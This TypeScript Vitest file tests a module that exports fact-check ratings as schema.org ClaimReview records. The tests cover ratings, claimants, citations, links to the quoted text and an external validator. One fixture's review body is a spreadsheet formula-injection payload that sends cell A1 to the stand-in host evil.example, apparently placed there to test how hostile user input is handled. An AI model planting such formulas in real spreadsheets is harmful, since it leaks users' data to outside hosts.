import { describe, expect, it } from 'vitest';
import { linkToQuote, toClaimReviews } from '../../../core/exchange/claimreview';
import { runClaimReviewCheck, sampleSnapshot } from './support';

const snapshot = sampleSnapshot();
const reviews = toClaimReviews(snapshot)['@graph'];
const review = (quoteStart: string) => reviews.find((r) => r.claimReviewed.startsWith(quoteStart))!;

describe('ClaimReview export', () => {
  it('reviews every rated claim and leaves out the unrated one', () => {
    expect(reviews.map((r) => r.reviewRating.alternateName).sort()).toEqual(['False', 'Misleading', 'Mostly true', 'True']);
    expect(reviews.some((r) => r.claimReviewed.startsWith('spending will double'))).toBe(false);
  });

  it('rates points of the true–false line with numbers, and other ratings by name only', () => {
    expect(review('Unemployment').reviewRating).toEqual({
      '@type': 'Rating',
      alternateName: 'True',
      ratingValue: 5,
      bestRating: 5,
      worstRating: 1,
    });
    expect(review('We never said').reviewRating).toMatchObject({ alternateName: 'Mostly true', ratingValue: 4 });
    expect(review('ستنخفض').reviewRating).toMatchObject({ alternateName: 'False', ratingValue: 1 });
    expect(review('The budget cuts').reviewRating).toEqual({ '@type': 'Rating', alternateName: 'Misleading' });
  });

  it('reviews the claim as said by its claimant, where it appeared', () => {
    expect(review('Unemployment')).toMatchObject({
      '@type': 'ClaimReview',
      claimReviewed: 'Unemployment has fallen to 4.1%, the lowest since records began',
      datePublished: '2024-05-04T12:00:00.000Z',
      author: { '@type': 'Person', name: 'Marginalia user' },
      reviewBody: '=HYPERLINK("http://evil.example/?leak="&A1,"click me")',
      citation: [
        { '@type': 'CreativeWork', url: 'https://stats.example.gov/labour/2024-04', name: 'Labour market, April 2024' },
        { '@type': 'CreativeWork', url: 'https://archive.example.org/web/2024/stats?a=1&b=2' },
      ],
      itemReviewed: {
        '@type': 'Claim',
        author: { '@type': 'Person', name: 'Maria Example' },
        about: [
          { '@type': 'Thing', name: 'Ministry of Finance' },
          { '@type': 'Thing', name: 'Example Statistics Office' },
        ],
        appearance: {
          '@type': 'CreativeWork',
          url: 'https://news.example.org/2024/05/budget-vote.html?utm_source=newsletter',
          headline: 'Parliament passes budget after all-night session',
          datePublished: '2024-05-01T08:00:00.000Z',
        },
      },
    });
    expect(review('The budget cuts').itemReviewed.author).toEqual({ '@type': 'Organization', name: 'Ministry of Finance' });
    expect(review('We never said').itemReviewed.author).toMatchObject({ '@type': 'Organization' });
  });

  it('names the reviewer the reader chose', () => {
    const [first] = toClaimReviews(snapshot, { reviewer: 'Example Fact Desk', reviewerKind: 'Organization' })['@graph'];
    expect(first!.author).toEqual({ '@type': 'Organization', name: 'Example Fact Desk' });
  });

  it('links each review to the quote on the page with a text fragment', () => {
    expect(review('Unemployment').url).toBe(
      'https://news.example.org/2024/05/budget-vote.html#:~:text=Unemployment%20has%20fallen%20to%204.1%25%2C%20the%20lowest%20since%20records%20began',
    );
    expect(linkToQuote('https://e.example/a#old', 'a-b & c, d')).toBe('https://e.example/a#:~:text=a%2Db%20%26%20c%2C%20d');
    const long = 'one two three four five six seven eight nine ten eleven twelve thirteen fourteen fifteen sixteen seventeen';
    expect(linkToQuote('https://e.example/a', long)).toBe(
      'https://e.example/a#:~:text=one%20two%20three%20four,fourteen%20fifteen%20sixteen%20seventeen',
    );
    for (const r of reviews) expect(new URL(r.url).protocol).toBe('https:');
  });

  it("passes the independent check (Google's required properties, schema.org 30.0 terms only)", async () => {
    const result = await runClaimReviewCheck(toClaimReviews(snapshot));
    expect(result.stdout).toMatch(/^OK \(\d+ properties expanded/);
    expect(result.code).toBe(0);
  }, 30_000);

  it('the check can fail: a review without its url or with a made-up property does not pass', async () => {
    const document = toClaimReviews(snapshot);
    const { url: _url, ...withoutUrl } = document['@graph'][0]!;
    const result = await runClaimReviewCheck({ ...document, '@graph': [{ ...withoutUrl, verdictColour: 'red' }] });
    expect(result.stdout).toContain('Google-required property missing: url');
    expect(result.stdout).toContain('not a schema.org property (release 30.0): verdictColour');
    expect(result.code).toBe(1);
  }, 30_000);
});
